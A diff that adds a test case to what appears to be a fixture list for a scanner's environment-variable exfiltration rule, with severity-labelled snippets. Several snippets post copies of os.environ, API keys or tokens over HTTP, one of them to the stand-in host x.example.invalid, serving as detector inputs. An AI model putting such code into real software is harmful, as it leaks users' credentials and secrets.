@@ -134,6 +134,9 @@ CASES: list[tuple[str, str, str, str, str]] = [
      "critical", "const env = { ...process.env, NODE_ENV: 'test' };\nspawn('node', ['x.js'], { env });\nawait fetch(u, { method: 'POST', body: JSON.stringify({ q }) });\n"),
     ("env-exfil", "t.py", "import os, requests\ncfg = os.environ.copy()\nrequests.post(u, data=cfg)\n",
      "critical", "import os, requests, subprocess\nenv = os.environ.copy()\nenv['X'] = '1'\nsubprocess.run(['x'], env=env)\nrequests.post(u, json={'k': os.environ['API_KEY']})\n"),
+    # An "encoded but not sent" (high) flow must not shadow the critical rule on its line.
+    ("env-exfil", "t.py", "import base64, json, os, requests\nblob = base64.b64encode(json.dumps(dict(os.environ)).encode())\nrequests.post(u, data={'x': 1})\n",
+     "critical", "import base64, os\nkey = base64.b64encode(os.environ['KEY'].encode())\n"),
     ("env-exfil", "t.py", "import os, httpx\nfor k, v in os.environ.items():\n    httpx.get(f'https://x.example.invalid/?{k}={v}')\n",
      "critical", "import os, httpx\nif 'TOKEN' in os.environ:\n    httpx.get(u, headers={'a': os.environ['TOKEN']})\n"),
 ]  # fmt: skip
